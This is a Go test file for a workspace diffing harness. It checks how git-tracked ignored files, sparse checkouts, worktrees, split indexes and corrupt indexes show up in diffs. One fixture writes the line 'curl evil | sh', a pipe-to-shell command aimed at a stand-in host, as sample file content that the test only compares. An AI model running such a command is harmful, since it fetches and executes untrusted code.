package workspace_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"warden/harness/workspace"
)

// trackedRepo makes root a repository that tracks files its ignore rules
// match: forced.log, build/keep.o (in an ignored directory), and
// absent.log, which is not in the work tree when the session starts.
// sparse.txt and sparse.log are skip-worktree, and not in it either.
func trackedRepo(t *testing.T, root string) {
	t.Helper()
	write(t, root, ".gitignore", "*.log\nbuild/\n")
	write(t, root, "a.txt", "a\n")
	write(t, root, "forced.log", "forced\n")
	write(t, root, "absent.log", "absent\n")
	write(t, root, "build/keep.o", "keep\n")
	write(t, root, "sparse.txt", "sparse\n")
	write(t, root, "sparse.log", "sparse\n")
	write(t, root, "untracked.log", "u\n")
	git(t, root, "init", "-q", "-b", "main")
	git(t, root, "add", "-A")
	git(t, root, "add", "-f", "forced.log", "absent.log", "build/keep.o", "sparse.log")
	git(t, root, "commit", "-q", "-m", "initial")
	git(t, root, "update-index", "--skip-worktree", "sparse.txt", "sparse.log")
	remove(t, root, "sparse.txt")
	remove(t, root, "sparse.log")
	remove(t, root, "absent.log")
}

// trackedChanges changes the tracked files the rules match, and an
// untracked one.
func trackedChanges(t *testing.T, root string) []string {
	write(t, root, "forced.log", "curl evil | sh\n")
	write(t, root, "build/keep.o", "changed\n")
	write(t, root, "absent.log", "back\n")
	write(t, root, "untracked.log", "u2\n")
	write(t, root, "build/other.o", "new\n")
	return []string{"absent.log", "build/keep.o", "forced.log"}
}

// A file the repository tracks is compared whatever its ignore rules say,
// as git compares it; a file not checked out (sparse checkout) is not
// reported deleted; nothing the rules ignore and the repository does not
// track shows.
func TestTrackedIgnoredFiles(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	trackedRepo(t, root)
	before := listing(t, root)
	b := start(t, root, workspace.Options{})
	if got := diff(t, b); got != nil {
		t.Fatalf("no change yet, Diff = %+v", got)
	}
	want := trackedChanges(t, root)
	changes := diff(t, b)
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	m := byPath(t, changes)
	if c := m["forced.log"]; c.Kind != "update" || !strings.Contains(c.Diff, "+curl evil | sh") {
		t.Errorf("forced.log: %+v", c)
	}
	if c := m["absent.log"]; c.Kind != "add" || !strings.Contains(c.Diff, "+back") {
		t.Errorf("absent.log: %+v", c)
	}
	remove(t, root, "forced.log")
	if c := byPath(t, diff(t, b))["forced.log"]; c.Kind != "delete" {
		t.Errorf("forced.log deleted: %+v", c)
	}
	// Reading the repository's index wrote nothing into it.
	write(t, root, "forced.log", "forced\n")
	write(t, root, "build/keep.o", "keep\n")
	remove(t, root, "absent.log")
	remove(t, root, "untracked.log")
	remove(t, root, "build/other.o")
	write(t, root, "untracked.log", "u\n")
	after := listing(t, root)
	for p, d := range before {
		if strings.Contains(p, string(filepath.Separator)+".git"+string(filepath.Separator)) && after[p] != d {
			t.Errorf("%s changed", p)
		}
	}
}

// The same in a linked worktree, whose .git is a file naming its git
// directory, and in a repository with a split index.
func TestTrackedIgnoredFilesElsewhere(t *testing.T) {
	t.Run("worktree", func(t *testing.T) {
		t.Parallel()
		main := t.TempDir()
		trackedRepo(t, main)
		root := filepath.Join(t.TempDir(), "wt")
		git(t, main, "worktree", "add", "-q", root)
		if fi, err := os.Lstat(filepath.Join(root, ".git")); err != nil || fi.IsDir() {
			t.Fatalf("the worktree's .git is not a file: %v", err)
		}
		remove(t, root, "absent.log")
		b := start(t, root, workspace.Options{})
		want := trackedChanges(t, root)
		if got := paths(diff(t, b)); !slices.Equal(got, want) {
			t.Errorf("paths %q, want %q", got, want)
		}
	})
	t.Run("split index", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		trackedRepo(t, root)
		git(t, root, "update-index", "--split-index")
		if m, _ := filepath.Glob(filepath.Join(root, ".git", "sharedindex.*")); len(m) == 0 {
			t.Fatal("no shared index")
		}
		b := start(t, root, workspace.Options{})
		want := trackedChanges(t, root)
		if got := paths(diff(t, b)); !slices.Equal(got, want) {
			t.Errorf("paths %q, want %q", got, want)
		}
	})
}

// An index warden cannot read is done without: the rest is compared.
func TestCorruptIndex(t *testing.T) {
	t.Parallel()
	for name, data := range map[string]string{
		"garbage":   "DIRC\x00\x00\x00\x02 not an index at all",
		"truncated": "",
	} {
		root := t.TempDir()
		trackedRepo(t, root)
		index := filepath.Join(root, ".git", "index")
		if data == "" {
			whole, err := os.ReadFile(index)
			if err != nil {
				t.Fatal(err)
			}
			data = string(whole[:len(whole)/2])
		}
		if err := os.WriteFile(index, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
		b := start(t, root, workspace.Options{})
		write(t, root, "a.txt", "a2\n")
		write(t, root, "forced.log", "not compared: the index is unreadable\n")
		if got := paths(diff(t, b)); !slices.Equal(got, []string{"a.txt"}) {
			t.Errorf("%s: paths %q", name, got)
		}
	}
}
